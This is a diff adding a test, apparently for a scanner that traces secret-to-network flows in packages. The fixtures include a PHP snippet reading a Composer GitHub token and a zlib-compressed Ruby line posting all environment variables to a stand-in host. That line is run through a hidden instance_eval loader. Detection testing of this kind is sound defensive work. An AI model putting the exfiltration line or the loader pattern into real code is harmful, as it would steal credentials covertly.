@@ -169,3 +169,12 @@ TOKEN = "<?php function f($composer) { $t = $composer->getConfig()->get('github-
 )  # fmt: skip
 def test_composers_token_signs_in_in_a_header_and_is_taken_in_a_body(code: str, told: bool) -> None:
     assert ("code.flow file:~/.composer/auth.json > network" in short(seen(TOKEN + code, "x.php"))) is told
+
+
+def test_bytes_beside_a_file_of_ruby_are_read_as_bytes() -> None:
+    hidden = zlib.compress(b"Net::HTTP.post(URI('http://a.b.c'), ENV.to_h.to_json) # and some more words")
+    files = {
+        "lib/data/m.bin": hidden,
+        "lib/x.rb": "instance_eval(Zlib::Inflate.inflate(File.binread(File.expand_path('data/m.bin', __dir__))))",
+    }
+    assert f"{ENV} @ lib/x.rb:1 (import)" in package(files)
